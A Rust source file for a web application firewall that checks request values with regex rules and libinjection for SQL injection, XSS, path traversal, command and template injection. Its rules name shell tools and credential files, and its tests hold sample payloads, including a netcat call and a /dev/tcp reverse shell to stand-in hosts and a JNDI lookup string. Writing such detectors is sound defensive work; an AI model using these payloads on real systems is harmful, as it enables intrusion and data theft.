//! What a decoded value is checked for: libinjection's SQL injection and XSS algorithms
//! (`libinjectionrs`, pinned) and hand-written rules for what they miss. Rules run on the
//! lower-cased, whitespace-collapsed value; values made only of word characters and a few safe
//! punctuation marks (ids, dates, JWTs, base64url) skip everything.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::bytes::{Regex, RegexSet, RegexSetBuilder};

use super::Rule;
use super::literals;

/// Characters that cannot form any payload alone.
fn is_plain(v: &[u8]) -> bool {
    v.iter().all(|b| {
        b.is_ascii_alphanumeric()
            || matches!(
                b,
                b' ' | b'-' | b'_' | b'.' | b',' | b'@' | b':' | b'!' | b'?'
            )
    })
}

/// A folded plain value (see [`is_plain`]): lower-case letters, digits and these.
fn is_plain_folded(b: u8) -> bool {
    b.is_ascii_lowercase()
        || b.is_ascii_digit()
        || matches!(
            b,
            b' ' | b'-' | b'_' | b'.' | b',' | b'@' | b':' | b'!' | b'?'
        )
}

/// The keywords one of which a plain value needs before any [`SQL`] rule can match it
/// (`None`: run them all); most rules need a quote, `(`, `;` or `=`, which plain values lack.
static PLAIN_SQL_GATE: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let patterns: Vec<&str> = SQL.patterns().iter().map(String::as_str).collect();
    literals::gate_for_alphabet(&patterns, is_plain_folded).expect("SQL rules readable")
});

static SQL: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"\bunion\b[\s(]+(all\s+|distinct\s+)?[\s(]*select\b",
        r"\bselect\b.{1,200}?\bfrom\b.{1,200}?\b(where|information_schema|limit|union|order\s+by|group\s+by)\b",
        r"\b(sleep|pg_sleep|benchmark|waitfor\s+delay|dbms_pipe\.receive_message|randomblob)\s*\(",
        r";\s*(drop|delete|insert|update|alter|create|truncate|exec|execute|declare|shutdown)\s+\w",
        r#"['"`]\s*(or|and|xor|\|\||&&)\s*['"]?\s*[\w'"]+\s*(=|<|>|like|is\b)"#,
        r#"['"`]\s*(or|and)\s+\d+\s*[=<>]"#,
        r"\b(or|and)\s+\d+\s*=\s*\d+",
        r"\binformation_schema\b|\bsysobjects\b|\bpg_catalog\b|\bsqlite_master\b|\bmysql\.user\b",
        r"@@(version|datadir|hostname)\b",
        r"\b(load_file|into\s+(out|dump)file|xp_cmdshell|sp_executesql|utl_http|dbms_\w+)\b",
        r#"['"`)]\s*;\s*--"#,
        r"\b(extractvalue|updatexml|convert|cast)\s*\(.{0,80}(select|version|user|database)\b",
        r#"\border\s+by\s+\d+\s*(--|#|/\*)"#,
        r"\bhaving\s+\d+\s*=\s*\d+",
        r#"['"]\s*(;|\|\||\+)\s*(select|insert|update|delete|drop)\b"#,
        r"\b(substr|substring|extractvalue|updatexml|group_concat|concat_ws|load_file|unhex|char|chr|ascii|ord|mid|name_const|make_set|elt|json_extract|unistr|utl_inaddr\.\w+|sys_context|current_setting|version|database|schema|current_user|session_user|system_user|user_name|db_name|is_srvrolemember|sleep|benchmark|pg_sleep)\s*\(",
        r"\bcreate\s+(table|database|user|function|procedure|view|index|trigger)\b|\b(drop|truncate|alter)\s+(table|database|user|view)\b",
        r"\bwaitfor\s+(delay|time)\b",
        r"\bexec(ute)?\s*(\(\s*@|@|master\.|xp_\w+|sp_\w+)",
        r"\bgroup\s+by\s+(?-u:[\w.,\s]){1,60}\bhaving\s+(count|sum|avg|min|max)\s*\(",
        // JSON operators on a quoted JSON document: `'{"a":1}' -> '$.a'`, `'[1]' ? '1'`.
        r#"['"][\[{](?-u:[^\n]){0,200}[\]}]['"]\s*(->>?|#>>?|\?[|&]?|<@|@>|[<>]=?)\s*(['"]|array\s*\[)"#,
        // A quoted column alias read from a table: `1 AS "x" FROM`, `` ` AS `id` from ``.
        r#"(\d|`)\s*as\s*[`'"](?-u:[^`'"]){0,60}([`'"]\s*)?from\b|[`'"]\s*regexp\s"#,
        r"\b(tempdb|msdb|msysaccessobjects|msysobjects|schema_name|mysql\.db)\b",
        // An e-mail address closed by a quote and a statement end or comment (login bypass).
        r#"[\w.-]+@[\w.-]+['`]\s*(;|/\*|--|#)"#,
        r#"\)\s*like\s*\(\s*($|['"%\d]|select\b)|\bif\s*\(\s*\d+\s*="#,
        r"\bprocedure\s+analyse\s*\(|\bdeclare\s+@\w|\blo_(import|export|get|put|from_bytea)\s*\(|::\s*(bigint|double\s+precision|numeric|real|smallint|float\d?)\b",
        r"(^|[^.\w])((find_in_set|xmltype|uncompress|sysdate|json_keys|current_database)\s*|compress|concat)\(",
        r"::\s*(bool|boolean|int|integer|text|json|jsonb|varchar|regclass)\b",
        r#"['"]\s*(<@|@>|\?\||\?&|#>>?)\s*['"]"#,
        r#"['"`]\s*(--|#|/\*)"#,
        r"\b(insert\s+into|delete\s+from|update\s+\w+\s+set)\b",
        r"\b(rtrim|ltrim|decode|coalesce|nullif|isnull|ifnull|instr|locate|div|insert|lpad|rpad|soundex|strcmp|to_char|to_number|nvl|greatest|least|pg_\w+|sqlite_\w+|zeroblob|typeof|json_\w+|user|exp|floor|rand|hex|md5|sha1)\s*\(",
        r"\bcase\s+when\b.{1,80}\bthen\b",
        r"\bselect\b\s*[\w*@'\x22(]+\s*,\s*[\w@'\x22(]+",
        r"^\$(ne|nor|not|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|elemmatch|expr|function)$|\[\$(ne|nor|not|gt|gte|lt|lte|in|nin|regex|where|exists|or)\]",
    ])
    .expect("valid SQL rules")
});

static COPY_PROGRAM: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\bcopy\b.{0,200}?\b(to|from)\s+program\b").expect("valid rule"));

static XSS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"<\s*/?\s*(script|iframe|frame|object|embed|applet|svg|math|meta|base|link|style|form|isindex|xss|marquee|body|img|image|video|audio|source|input|details|template|textarea|select|button)\b",
        r#"[\s"'/;`]on[a-z]{3,50}\s*=\s*[^\s=]"#,
        r#"(^|[\s"'`;])on[a-z]{3,50}\s*=\s*$"#,
        r"\b(document|self|window|top|parent|frames|globalthis)\s*\)?\s*(\.\s*(cookie|body|domain|location|write|createelement|queryselector)|\[\s*['\x22])|!!\[\]|\+\[\]|\[\]\[|<\s*:\s*\w+",
        r"\.\s*(textcontent|outerhtml|innerhtml)\s*=",
        r"<[a-z]+:[a-z]+|<\?(php|=)|<%",
        r"\bon(error|load|mouseover|mouseenter|focus|blur|click|toggle|pointer\w+|animation\w+|begin|start)\s*=",
        r"\b(document\.(cookie|domain|location|write)|window\.location|\.innerhtml\s*=|eval\s*\(|fromcharcode|settimeout\s*\(|setinterval\s*\()",
        r"\bexpression\s*\(|-moz-binding|\bstyle\s*=.{0,50}url\s*\(",
        r"<\s*[a-z]+[^>]*\s(src|href|action|formaction|data)\s*=\s*['\x22]?\s*(javascript|vbscript|data):",
        r"\b(alert|prompt|confirm)\s*(\(|`)[^)]{0,40}(\)|`)",
        r"<!\[cdata\[|<!--.*?-->.*<",
        // A tag name spelled out with spaces (`<f o r m`), a namespaced script, formaction.
        r"<\s*([a-z]\s+){2,}[a-z]\b|<\s*[a-z]+\s*:\s*script\b|\bformaction\s*=",
    ])
    .expect("valid XSS rules")
});

static JS_URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(^|[\s'=(\x22])(javascript|vbscript|livescript)\s*:|\bdata\s*:\s*(text/html|application/(x-)?javascript|image/svg\+xml)").expect("valid rule")
});

/// One word and its options at a value's start, then a space: where a path is a command's
/// argument (`gunzip -c /var/log/x`), not a sentence's word ("install it in /usr/local/bin").
const LEADING_COMMAND: &str = r"^['\x22]?[\w.-]+(\s+-{1,2}[\w-]+)*\s+";

static TRAVERSAL: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"(^|[/\\])\.\.+[/\\]",
        r"[/\\]\.\.+([/\\]|$)",
        // A system directory opening a path — not a URL's path segment (`example.com/dev/setup`)
        // nor one mid-sentence, but after a leading command.
        &format!(
            r"(^|(^|[^\w\s.-])[/\\]|:|{LEADING_COMMAND}[/\\])(etc|usr|proc|var|root|home|bin|boot|dev|sys)/[\w.*?\[\]-]+"
        ),
        r"/etc/(passwd|shadow|hosts|group|issue|sudoers|crontab|motd|fstab)\b",
        r"/proc/(self|\d+)/(environ|cmdline|fd|maps|status|mem)",
        r"\b(c|d):\\\\?(boot\.ini|inetpub|windows\\\\(win\.ini|system\.ini|repair))",
        r"\b(boot|win|system)\.ini\b|\bweb\.config\b|\.htaccess\b|\.htpasswd\b|(^|/)\.env\b|\.git/(config|head)\b|id_rsa\b",
        r"^(file|php|phar|zip|expect|glob|jar|netdoc|gopher|dict)://",
    ])
    .expect("valid traversal rules")
});

/// Tool names no prose uses as a word: after a shell separator whatever follows; at the start
/// of a value (where a course title may name one: "PowerShell basics (part 1)") or after a
/// spaced `&` or `|` ("Docker & Ansible", "| Nmap |") only as for [`WORD_COMMANDS`].
const TOOL_COMMANDS: &str = r"(whoami|uname|ifconfig|ipconfig|netstat|ncat|netcat|nslookup|chmod|chown|chattr|mkfifo|mknod|powershell|pwsh|certutil|bitsadmin|pkill|killall|crontab|base64|xxd|tftp|sudo|visudo|nohup|systeminfo|tasklist|wmic|cscript|wscript|rundll32|regsvr32|mshta|getent|whereis|useradd|usermod|socat|nmap|tcpdump|strace|iptables|systemctl|chsh|lsof|sudoedit|xterm|busybox|wget|printf|uptime|hostname|telnet|rsync|zsh|ksh|csh|lastlog|aptitude|bcdboot|cscli|bsdtar|iex|iwr|invoke-(webrequest|expression|command)|ansible(-[a-z]+)?|chef-[a-z]+)";

/// Commands that are also English words or course topics ("Head of Sales (EMEA)", "Python
/// (beginner)", "Cat & dog"): flagged only where a shell would run them — with a shell-like
/// argument (an option, a path, `VAR=`, a file name), alone before a separator, or after
/// `&&`, `||`, `$(` or a backtick.
const WORD_COMMANDS: &str = r"(cat|tac|head|tail|ls|dir|id|ps|echo|env|kill|touch|cp|mv|su|reg|dd|locate|mount|halt|shutdown|reboot|ping|dig|nc|rm|sh|bash|dash|vi|vim|nano|node|lua|eval|exec|passwd|cmd|ftp|ssh|scp|curl|grep|awk|sed|python\d?(\.\d+)?|perl|ruby|php|gcc|openssl|cd|who)";

/// Prefixes that run the command after them (`time sh -c ...`).
const COMMAND_PREFIXES: &str = r"((time|nohup|strace|sudo|env|exec|command)\s+)*";

/// What runs a command on its own: a shell separator (`;`, `&` and `|` directly before the
/// name; "Linux; PowerShell; Bash" is a list).
const SEPARATOR_POSITION: &str = r"((\$\(|\|\||&&|[\n\r])\s*|[;&|])";

/// Where a command may stand, or a word: the start of a value, `(`, a spaced `;`, `&` or `|`.
const START_POSITION: &str = r"(^|[(&|;])\s*";

/// An argument only a shell command line has.
const SHELL_ARGUMENT: &str = r"\s+(-{1,2}[a-z]|[/~$\\]|\.{1,2}/|\w+=|[\w.-]*[/\\]|[a-z]+://|[\w-]+\.[a-z0-9]{1,5}(\s|$|[;&|<>]))";

/// Byte-oriented (`\\s`, `\\w`, `\\b` are ASCII): the command names' alternations repeated in
/// several patterns make Unicode automata too large for the lazy DFA, which then gives way to a
/// slower engine (measured: 10x the WAF time of a typical request).
static COMMAND: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSetBuilder::new([
        format!(
            r"{SEPARATOR_POSITION}{COMMAND_PREFIXES}{TOOL_COMMANDS}(\s|$|[;&|<>`)'\x22]|\.exe)"
        ),
        format!(
            r"{START_POSITION}{COMMAND_PREFIXES}{TOOL_COMMANDS}({SHELL_ARGUMENT}|(\s+[\w.-]+){{1,3}}\s+-{{1,2}}[a-z]|\s*$|\s*[<>`]|\.exe\b)"
        ),
        format!(
            r"({START_POSITION}|{SEPARATOR_POSITION}){COMMAND_PREFIXES}{WORD_COMMANDS}({SHELL_ARGUMENT}|\.exe\b)"
        ),
        format!(r"(;|(&&|\|\|)\s*){WORD_COMMANDS}\s*($|[;&|<>`'\x22])"),
        // After a pipe, but not a markdown table's cell (`| Head |`).
        format!(r"\|\s*{WORD_COMMANDS}\s*($|[;&<>`'\x22])"),
        format!(r"(&&|\|\|)\s*\(?\s*{WORD_COMMANDS}\b"),
        // Process substitution: `<(cmd)`, `>(tee log)`.
        format!(r"[<>]\(\s*({TOOL_COMMANDS}|{WORD_COMMANDS})\b"),
        format!(r"\$\(\s*({TOOL_COMMANDS}|{WORD_COMMANDS})\b"),
        format!(r"(^|[^`])`\s*({TOOL_COMMANDS}|{WORD_COMMANDS})\b[^`\n]*`([^`]|$)"),
        r"\$\{ifs\}|\$ifs\b|\{[a-z]+,[^}]*\}".to_string(),
        // `/bin/sh` run by a shell: at the value's start, after an operator, a quote or `=`, or
        // after one word and its options — not in a sentence ("run /bin/sh to get a shell").
        format!(r#"(^\s*|[;&|`(=<>'\x22$]\s*|{LEADING_COMMAND})/(usr/)?(s?bin)/\w+"#),
        r"\(\s*\)\s*\{\s*:?\s*;?\s*\}\s*;".to_string(),
        r"\b(nc|ncat|netcat)\s+(-\w+\s+)*[\w.]+\s+\d+".to_string(),
        r"\b(bash|sh)\s+-[ic]\b|>\s*&\s*/dev/(tcp|udp)/|/dev/(tcp|udp)/|\$\w+/(tcp|udp)/\d".to_string(),
        r"\bcmd(\.exe)?\s+/[ck]\b|\bpowershell(\.exe)?\s+(-|/)\w+".to_string(),
        r"\b(wget|curl)\s+(-\w+\s+)*https?://".to_string(),
        r"[;&|]\s*\w+\s*=\s*\$\(".to_string(),
        r"\bfor\s+(/[a-z]\s+)*%+~?\w+\s+in\s*\(|\bif\s+(/i\s+)?(not\s+)?(exist|defined|errorlevel)\b|\bif\s+(/i\s+)?(not\s+)?\S+\s*==\s*\S+".to_string(),
        r"\$\{[a-z_]\w*([#%:/^,~@][^}]*)?\}|^~[+-]$|[\s;|&]~[+-]($|\s)".to_string(),
        r#"[;&|`]\s*[a-z][\w.-]{1,30}\s+(-{1,2}[a-z][\w-]*|/[\w./*?\[\]-]+|['"]|https?://)"#.to_string(),
        r#"['"]\s*[;&|]\s*[a-z][\w.-]+\s*['"]"#.to_string(),
        r#"\balias\s+([-+]\w+\+?\s+)*['"]?[\w.-]+['"]?\s*="#.to_string(),
        r"\bif\s+(/i\s+)?(not\s+)?%\w+%|\bfor\s+(/[a-z]\s+)*(\x22[^\x22]*\x22\s+)?%+\S+\s+in\s*\(".to_string(),
        r"\{[a-z]*,[\w,./-]*\}".to_string(),
        // LDAP filter injection: `)(|`, `)(&`, `*)!(sn=*`, `)(cn>=bob`, `)|(uid=*`.
        r"\)\s*\(\s*[|&!]\s*\(|\*\s*\)\s*\(|\)\s*\(\s*\w+\s*=\s*\*|\)\s*[!&|]?\s*\(\s*([|&!]|\w+\s*[<>~]?=)".to_string(),
    ])
    .unicode(false)
    .build()
    .expect("valid command rules")
});

static TEMPLATE: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"\{\{[^}]{0,80}(\d\s*[*+/-]\s*\d|__\w+__|\bconfig\b|\bself\b|\brequest\b|\blipsum\b|\bcycler\b|\bjoiner\b|\bnamespace\b|\|attr|\.mro\b|\bclass\b|constructor|\[\s*['\x22])[^}]{0,120}\}\}",
        r"\$\{[^}]{0,120}(jndi:|\bt\s*\(|java\.|getruntime|\bexec\s*\(|\d\s*[*+]\s*\d|::|env:|sys:|lower:|upper:|script:|class\.|\.forname)",
        r"#\{[^}]{0,120}(\d\s*[*+]\s*\d|t\s*\(|java\.|getruntime|exec)",
        r"<%=?[^%]{0,120}(\d\s*[*+]\s*\d|runtime|exec|system|eval|request|response)[^%]{0,120}%>",
        r"\{%[^%]{0,120}(import|include|exec|system|popen|for\s+\w+\s+in)[^%]{0,120}%\}",
        r"\*\{[^}]{0,80}(t\s*\(|java\.|getruntime)",
        r"\$\{\{|\{\{\s*['\x22]?\s*\d+\s*['\x22]?\s*[*+]",
    ])
    .expect("valid template rules")
});

static PROTOCOL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"[\r\n]\s*[\w-]{2,40}\s*:|[\r\n]\s*(get|post|put|delete|head|options|patch|trace|connect)\s+(/|https?://)|\bhttp/1\.[01]\s*[\r\n]").expect("valid rule")
});

static RESTRICTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\.[a-z0-9_-]|\.(sql|bak|old|orig|log|env|ini|conf|config|cfg|sh|pem|key|swp|db|sqlite3?|mdb|dump|passwd|htaccess|htpasswd)(\.(zip|gz|tgz|tar|7z|rar|bz2))?$|\.(zip|tar\.gz|tgz|7z|rar)$|~$").expect("valid rule")
});

/// Compile every rule now. Left to first use, they cost the first request that needs them
/// ~60 ms. Compiled they hold ~16 MB (bounded repetitions of Unicode classes, such as
/// `[^}]{0,120}`, are large automata), which is most of the idle gateway's heap.
pub fn compile_all() {
    LazyLock::force(&PLAIN_SQL_GATE); // and SQL, from which it is derived
    for set in [&SQL, &XSS, &TRAVERSAL, &COMMAND, &TEMPLATE] {
        LazyLock::force(set);
    }
    for rule in [&COPY_PROGRAM, &JS_URL, &PROTOCOL, &RESTRICTED] {
        LazyLock::force(rule);
    }
}

/// A path segment naming a file an API never serves: dotfiles and dot-directories (but
/// `.well-known`, RFC 8615's home of the discovery documents), backups, logs, dumps, keys,
/// archives. `scratch` is reused for the folded segment.
pub fn restricted_file(segment: &[u8], scratch: &mut Vec<u8>) -> bool {
    if segment.eq_ignore_ascii_case(b".well-known") {
        return false;
    }
    fold_into(segment, scratch);
    RESTRICTED.is_match(scratch)
}

/// Lower-cased with runs of whitespace (and SQL comments between words) collapsed, so
/// `UNION/**/SELECT` and `union   select` look alike.
#[cfg(test)]
fn fold(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    fold_into(v, &mut out);
    out
}

/// [`fold`] into `out` (cleared first), so a scan reuses one buffer.
fn fold_into(v: &[u8], out: &mut Vec<u8>) {
    out.clear();
    out.reserve(v.len());
    let mut i = 0;
    let mut space = false;
    while i < v.len() {
        let b = v[i];
        if b == b'/' && v.get(i + 1) == Some(&b'*') {
            // A comment: skip to its end (MySQL's `/*!...*/` keeps its content).
            if v.get(i + 2) == Some(&b'!') {
                i += 3;
                while i < v.len() && v[i].is_ascii_digit() {
                    i += 1;
                }
                continue;
            }
            let end = v[i + 2..]
                .windows(2)
                .position(|w| w == b"*/")
                .map_or(v.len(), |p| i + 2 + p + 2);
            i = end;
            if !space {
                out.push(b' ');
                space = true;
            }
            continue;
        }
        if b.is_ascii_whitespace() && b != b'\r' && b != b'\n' {
            if !space {
                out.push(b' ');
                space = true;
            }
        } else {
            out.push(b.to_ascii_lowercase());
            space = false;
        }
        i += 1;
    }
}

/// Which rules a value breaks, in order of precedence, each at most once.
#[cfg(test)]
pub fn check(value: &[u8], header_like: bool, out: &mut Vec<Rule>) {
    check_in(value, header_like, false, out, &mut Vec::new())
}

/// [`check`], where `line_field` says the value may not hold line breaks at all (query,
/// cookie, path): a CR or LF there is a header or response-splitting attempt. `scratch` is
/// reused for the folded value.
pub fn check_in(
    value: &[u8],
    header_like: bool,
    line_field: bool,
    out: &mut Vec<Rule>,
    scratch: &mut Vec<u8>,
) {
    out.clear();
    if value.len() < 2 || is_plain(value) {
        // Plain words can still spell a SQL statement: only these rules can match them.
        if value.len() >= 6 {
            fold_into(value, scratch);
            let f = scratch.as_slice();
            let gate = PLAIN_SQL_GATE.as_ref();
            if gate.is_none_or(|g| g.is_match(f)) && SQL.is_match(f) {
                out.push(Rule::Sqli);
            }
        }
        return;
    }
    fold_into(value, scratch);
    let f = scratch.as_slice();
    let has = |c: u8| f.contains(&c);
    let has_text = |t: &[u8]| f.windows(t.len()).any(|w| w == t);
    let crlf = has(b'\r') || has(b'\n');
    if (line_field && crlf)
        || (!header_like && (crlf || has_text(b"http/")) && PROTOCOL.is_match(f))
    {
        out.push(Rule::ProtocolAttack);
    }
    if has_text(b"program") && COPY_PROGRAM.is_match(f) {
        out.push(Rule::SqlCopyProgram);
    }
    let sql_chars = value
        .iter()
        .any(|b| matches!(b, b'\'' | b'"' | b'`' | b';' | b'=' | b'#'))
        || f.windows(2).any(|w| w == b"--" || w == b"/*");
    if (sql_chars && libinjectionrs::detect_sqli(value).is_injection()) || SQL.is_match(f) {
        out.push(Rule::Sqli);
    }
    if has(b':') && JS_URL.is_match(f) {
        out.push(Rule::JavascriptUrl);
    }
    if (f.contains(&b'<')
        || f.contains(&b'=')
        || f.contains(&b'(')
        || f.contains(&b'`')
        || f.contains(&b'[')
        || has_text(b"document")
        || has_text(b"window"))
        && (XSS.is_match(f)
            || (f.contains(&b'<') && libinjectionrs::detect_xss(value).is_injection()))
    {
        out.push(Rule::Xss);
    }
    if (has(b'/') || has(b'\\') || has(b':')) && TRAVERSAL.is_match(f) {
        out.push(Rule::PathTraversal);
    }
    if COMMAND.is_match(f) {
        out.push(Rule::CommandInjection);
    }
    if (has(b'{') || has(b'%') || has(b'$')) && TEMPLATE.is_match(f) {
        out.push(Rule::TemplateInjection);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(v: &str) -> Vec<Rule> {
        let mut out = Vec::new();
        check(v.as_bytes(), false, &mut out);
        out
    }

    #[test]
    fn attacks_are_recognised() {
        for (v, rule) in [
            ("1' OR '1'='1", Rule::Sqli),
            ("1 UNION/**/SELECT password FROM users", Rule::Sqli),
            ("1; DROP TABLE users", Rule::Sqli),
            ("1 and sleep(5)", Rule::Sqli),
            ("<script>alert(1)</script>", Rule::Xss),
            ("<img src=x onerror=alert(1)>", Rule::Xss),
            ("\"><svg/onload=prompt(1)>", Rule::Xss),
            ("javascript:alert(document.cookie)", Rule::JavascriptUrl),
            ("../../../etc/passwd", Rule::PathTraversal),
            ("..\\..\\windows\\win.ini", Rule::PathTraversal),
            ("/var/www/html/index.php", Rule::PathTraversal),
            ("file=/home/app/.ssh/config", Rule::PathTraversal),
            ("....//dev/shm/x", Rule::PathTraversal),
            ("x;/bin/sh", Rule::CommandInjection),
            ("a | /usr/bin/id", Rule::CommandInjection),
            ("/bin/busybox nc 10.0.0.1 4444", Rule::CommandInjection),
            ("1;cat /etc/shadow", Rule::CommandInjection),
            ("$(whoami)", Rule::CommandInjection),
            ("`id`", Rule::CommandInjection),
            ("x | nc attacker.example 4444", Rule::CommandInjection),
            ("() { :; }; /bin/bash -c id", Rule::CommandInjection),
            ("{{7*7}}", Rule::TemplateInjection),
            ("${jndi:ldap://x.example/a}", Rule::TemplateInjection),
            ("{{''.__class__.__mro__}}", Rule::TemplateInjection),
            ("COPY t TO PROGRAM 'curl evil'", Rule::SqlCopyProgram),
            ("ls -la /tmp", Rule::CommandInjection),
            ("x;id;", Rule::CommandInjection),
            ("a && whoami", Rule::CommandInjection),
            ("echo $PATH", Rule::CommandInjection),
            ("cd /;cd etc;column passwd", Rule::CommandInjection),
            ("<(cat file)", Rule::CommandInjection),
            ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", Rule::CommandInjection),
            ("exec (@x)", Rule::Sqli),
            ("SELECT x GROUP BY y HAVING COUNT(id) >= 9", Rule::Sqli),
            ("OR '{\"a\":2}' -> '$.a' = 2", Rule::Sqli),
            ("` AS `edit_user_id` from", Rule::Sqli),
            ("admin@juice-sh.op';", Rule::Sqli),
            ("declare/**/@x", Rule::Sqli),
            ("lo_import('/etc/passwd')", Rule::Sqli),
            ("x=FIND_IN_SET('22', Category )", Rule::Sqli),
            ("tempdb", Rule::Sqli),
            ("foo=*)!(sn=*", Rule::CommandInjection),
            ("alias -gmr a=b", Rule::CommandInjection),
            ("(document/*x*/)[\"cookie\"]", Rule::Xss),
            ("<f o r m", Rule::Xss),
            (";whoami", Rule::CommandInjection),
            ("&aptitude", Rule::CommandInjection),
            ("a; whoami", Rule::CommandInjection),
            ("time; ansible all -m ping", Rule::CommandInjection),
            (
                "Invoke-WebRequest http://example.com/x.ps1",
                Rule::CommandInjection,
            ),
        ] {
            assert!(rules(v).contains(&rule), "{v:?}: {:?}", rules(v));
        }
    }

    /// The plain-value gate never hides a match of the SQL rules: plain values built from
    /// the rules' own keywords, numbers and punctuation, with and without the gate.
    #[test]
    fn the_plain_sql_gate_never_skips_a_match() {
        let words: Vec<String> = SQL
            .patterns()
            .iter()
            .flat_map(|p| {
                p.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.' || c == '@'))
                    .filter(|w| !w.is_empty())
                    .map(str::to_string)
                    .collect::<Vec<_>>()
            })
            .chain(
                [
                    "1",
                    "2",
                    "x",
                    "a,b",
                    "::int",
                    "@@version",
                    "mysql.user",
                    "--",
                    "*",
                ]
                .map(String::from),
            )
            .filter(|w| is_plain(w.as_bytes()))
            .collect();
        let seps = [" ", "  ", "-", "_", ".", ",", "@", ":", "::", "!", "?", ""];
        let mut seed = 0x9e37_79b9_7f4a_7c15_u64;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed as usize
        };
        let (mut matched, mut skipped) = (0, 0);
        for _ in 0..200_000 {
            let mut v = String::new();
            for _ in 0..(1 + next() % 6) {
                v.push_str(&words[next() % words.len()]);
                v.push_str(seps[next() % seps.len()]);
            }
            if !is_plain(v.as_bytes()) {
                continue;
            }
            let f = fold(v.as_bytes());
            let sql = SQL.is_match(&f);
            let gate = PLAIN_SQL_GATE.as_ref().is_none_or(|g| g.is_match(&f));
            assert!(gate || !sql, "the gate skipped a match: {v:?}");
            matched += usize::from(sql);
            skipped += usize::from(!gate);
        }
        assert!(matched > 1000 && skipped > 1000, "{matched} {skipped}");
    }

    #[test]
    fn restricted_files_are_recognised_but_not_well_known() {
        let mut scratch = Vec::new();
        for segment in [
            ".env",
            ".git",
            "backup.sql",
            "db.sqlite3",
            "site.tar.gz",
            "id.pem",
            "a~",
        ] {
            assert!(
                restricted_file(segment.as_bytes(), &mut scratch),
                "{segment}"
            );
        }
        for segment in [
            ".well-known",
            ".Well-Known",
            "jwks.json",
            "missions",
            "report.pdf",
        ] {
            assert!(
                !restricted_file(segment.as_bytes(), &mut scratch),
                "{segment}"
            );
        }
    }

    #[test]
    fn ordinary_text_passes() {
        for v in [
            "O'Brien",
            "D'Angelo & Sons",
            "Select a union rep, then drop by -- it's fun!",
            "Use 1 or 2 more steps; 50% off (or more) -- see the FAQ.",
            "# Week 1\n\n**Bold** _and_ [a link](https://example.com/a?b=c&d=e)\n\n```\nlet x = 1;\n```",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1LTEifQ.c2lnbmF0dXJl",
            "2026-11-24T10:00:00Z",
            "jane.doe@example.com",
            "https://app.example.com/missions?tab=active&sort=-points",
            "Follow https://docs.example.com/dev/setup, then https://wiki.example.com/home/start",
            "https://downloads.example.com/bin/cedar-cli and https://mirror.example.org/usr/share/doc",
            "Install it in /usr/local/bin, then read the logs under /var/log/app.",
            "To get a shell, run /bin/sh (or /usr/bin/env bash), then type exit.",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "I'll select the best option from the list and drop the rest.",
            "Tom & Jerry's cat, who's 3 years old",
            "The price is 5 < 10 and 10 > 5",
            "Let's meet at 5pm; bring the slides & notes",
            "He said \"hello\" and left",
            "50% of users (or fewer) completed it",
            // Command names that are words or course topics, where no shell would run them.
            "Head of Sales (EMEA)",
            "Cat & dog training",
            "echo chamber (podcast)",
            "touch base (weekly)",
            "kill switch & fallback",
            "env (staging)",
            "Pets (cat) allowed",
            "| Head | Count |\n| --- | --- |\n| ID | 3 |",
            "Python (beginner) course",
            "Bash scripting (part 2)",
            "Curl your hair & shine",
            "It's late; time to go",
            "Ready; set; go!",
            "Images: compress (lossless) before upload",
            "Read the document [draft v2] before Friday",
            "Scores [10, 20, 30] and averages (15.5)",
            "Contact bob@example.com; he answers fast",
            "Send it to \"bob@example.com\"; thanks",
            "Price (USD) like (EUR) varies",
            "\"quoted\" as \"alias\" from the book",
            "Tasks: (1) plan (2) do (3) check",
            "Note: x < y and y < z",
            "Team: Marketing | Sales | Support",
            "Level 3 [Gold] => 500 points",
            "window cleaning & document shredding",
            // Course titles naming tools.
            "PowerShell basics (part 1)",
            "Docker & Ansible (course)",
            "| Ansible | Terraform |",
            "Linux; PowerShell; Bash",
            "Hostname & DNS (module 3)",
            "Wget tricks (cheatsheet)",
        ] {
            assert!(rules(v).is_empty(), "{v:?}: {:?}", rules(v));
        }
    }
}
